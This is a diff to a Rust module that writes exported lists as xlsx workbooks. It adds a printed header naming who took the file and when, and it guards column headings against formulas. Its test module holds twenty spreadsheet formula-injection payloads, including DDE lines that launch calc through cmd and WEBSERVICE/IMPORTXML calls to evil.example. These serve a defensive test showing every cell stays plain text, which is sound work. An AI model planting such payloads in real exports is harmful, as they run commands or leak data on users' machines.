@@ -1,11 +1,14 @@
 //! Lists as workbooks (xlsx): a heading in the reader's language, then only texts, none of which a spreadsheet runs.
 
+use lawdesk_core::date::Timestamp;
 use lawdesk_core::export::{MOST_ROWS, guard_formula, heading};
 use lawdesk_core::locale::Locale;
 use lawdesk_core::message::Message;
 use lawdesk_core::violation::Violation;
 use rust_xlsxwriter::{Color, DataValidation, Format, Formula, Workbook, Worksheet, XlsxError};
 
+use crate::identity::current_user::CurrentUser;
+use crate::platform::clock::Clock;
 use crate::platform::error::Result;
 
 /// How many rows are read for a workbook: one more than it takes, so that too many are seen.
@@ -31,6 +34,26 @@ pub struct Sheet {
     pub headings: Vec<Heading>,
     /// The rows below it.
     pub lines: Vec<Vec<String>>,
+    /// Who takes it, and when; a template is nobody's.
+    pub taken: Taken,
+}
+
+/// Who takes a workbook, and when: it stands above every page that is printed of it.
+#[derive(Clone, Debug, Default)]
+pub struct Taken(String);
+
+impl Taken {
+    /// By the caller, now.
+    #[must_use]
+    pub fn by(user: &CurrentUser, clock: &Clock) -> Self {
+        let at = Timestamp(clock.now());
+        Self(format!("{}（{}） {at}", user.name, user.username))
+    }
+
+    /// As a spreadsheet has it, at the right; `&` begins an instruction there.
+    fn header(&self) -> String {
+        format!("&R{}", self.0.replace('&', "&&"))
+    }
 }
 
 /// What stands above a column.
@@ -71,10 +94,11 @@ pub async fn workbook<const COLUMNS: usize>(
     columns: [(&'static str, &'static str); COLUMNS],
     lines: Vec<[String; COLUMNS]>,
     locale: Locale,
+    taken: &Taken,
 ) -> Result<Vec<u8>> {
     let headings = columns.map(|caption| Heading::plain(heading(caption, locale))).to_vec();
     let lines = lines.into_iter().map(Vec::from).collect();
-    sheets(vec![Sheet { headings, lines, ..Sheet::default() }]).await
+    sheets(vec![Sheet { headings, lines, taken: taken.clone(), ..Sheet::default() }]).await
 }
 
 /// The bytes of a workbook with these sheets, made beside other requests.
@@ -89,6 +113,9 @@ fn write(sheets: &[Sheet]) -> Result<Vec<u8>, XlsxError> {
         let sheet = book.add_worksheet();
         if !content.name.is_empty() {
             sheet.set_name(&content.name)?;
+        }
+        if !content.taken.0.is_empty() {
+            sheet.set_header(content.taken.header());
         }
         for (column, heading) in (0_u16..).zip(&content.headings) {
             write_heading(sheet, column, heading)?;
@@ -107,11 +134,87 @@ fn write(sheets: &[Sheet]) -> Result<Vec<u8>, XlsxError> {
 fn write_heading(sheet: &mut Worksheet, column: u16, heading: &Heading) -> Result<(), XlsxError> {
     let bold = Format::new().set_bold();
     let format = if heading.is_required { bold.set_font_color(Color::RGB(0x00C0_0000)) } else { bold };
-    sheet.write_string_with_format(0, column, &heading.text, &format)?;
+    // People name columns, too: fields of forms that they design.
+    sheet.write_string_with_format(0, column, guard_formula(&heading.text), &format)?;
     if let Some(Choices { sheet: name, column: from, count }) = &heading.choices {
         let letters = rust_xlsxwriter::utility::column_number_to_name(*from);
         let list = Formula::new(format!("='{name}'!${letters}$2:${letters}${}", count + 1));
         sheet.add_data_validation(1, column, ROWS_TO_FILL, column, &DataValidation::new().allow_list_formula(list))?;
     }
     Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use std::io::{Cursor, Read};
+
+    use super::*;
+
+    /// What spreadsheets would run.
+    const PAYLOADS: [&str; 20] = [
+        "=1+1",
+        "=cmd|' /C calc'!A0",
+        "=HYPERLINK(\"http://evil.example\",\"见附件\")",
+        "=IMPORTXML(\"http://evil.example\",\"//a\")",
+        "=DDE(\"cmd\";\"/C calc\";\"a\")",
+        "=WEBSERVICE(\"http://evil.example\")",
+        "+1+1",
+        "+cmd|' /C notepad'!A1",
+        "-1+1",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "@A1",
+        "\t=1+1",
+        "\r=1+1",
+        "\n=1+1",
+        "＝1+1",
+        "＋1+1",
+        "－1+1",
+        "＠SUM(1)",
+        "=1+1\";=cmd|'/C calc'!A0",
+    ];
+
+    /// The parts of a workbook, unpacked.
+    fn parts(workbook: Vec<u8>) -> Vec<(String, String)> {
+        let mut book = zip::ZipArchive::new(Cursor::new(workbook)).unwrap();
+        (0..book.len())
+            .map(|at| {
+                let mut part = book.by_index(at).unwrap();
+                let mut xml = String::new();
+                part.read_to_string(&mut xml).unwrap();
+                (part.name().unwrap().into_owned(), xml)
+            })
+            .collect()
+    }
+
+    #[test]
+    fn a_workbook_says_on_every_page_who_took_it_and_when() {
+        let taken = Taken("王&芳（city_op） 2026-11-21 09:00:00".to_owned());
+        let book = write(&[Sheet { lines: vec![vec!["a".to_owned()]], taken, ..Sheet::default() }]).unwrap();
+        let sheet = parts(book).into_iter().find(|(name, _)| name == "xl/worksheets/sheet1.xml").unwrap().1;
+        let header = "<oddHeader>&amp;R王&amp;&amp;芳（city_op） 2026-11-21 09:00:00</oddHeader>";
+        assert!(sheet.contains(header), "{sheet}");
+        let template = write(&[Sheet { lines: vec![vec!["a".to_owned()]], ..Sheet::default() }]).unwrap();
+        assert!(parts(template).iter().all(|(_, xml)| !xml.contains("oddHeader")));
+    }
+
+    /// SEC-13: what people have typed is a text in every cell, and stays one when a spreadsheet writes it out in another format.
+    #[test]
+    fn nothing_that_somebody_has_typed_is_a_formula_in_a_workbook() {
+        let headings = PAYLOADS.map(Heading::plain).to_vec();
+        let lines = vec![PAYLOADS.map(str::to_owned).to_vec()];
+        let workbook = write(&[Sheet { headings, lines, ..Sheet::default() }]).unwrap();
+        let parts = parts(workbook);
+        let sheet = parts.iter().find(|(name, _)| name == "xl/worksheets/sheet1.xml").map(|(_, xml)| xml).unwrap();
+        assert_eq!(sheet.matches("<c r=").count(), 2 * PAYLOADS.len());
+        assert_eq!(sheet.matches("t=\"s\"").count(), 2 * PAYLOADS.len(), "each cell is a shared text");
+        assert!(
+            parts.iter().all(|(name, xml)| !xml.contains("<f>") && !xml.contains("<f ") && !name.contains("calcChain"))
+        );
+        let texts = &parts.iter().find(|(name, _)| name == "xl/sharedStrings.xml").unwrap().1;
+        let texts: Vec<&str> = texts.split("</t>").filter_map(|it| it.rsplit_once('>')).map(|it| it.1).collect();
+        let told = texts.iter().filter(|text| !text.is_empty()).count();
+        assert_eq!(told, PAYLOADS.len(), "{texts:?}");
+        assert!(texts.iter().all(|text| text.is_empty() || text.starts_with('\'')), "{texts:?}");
+    }
 }
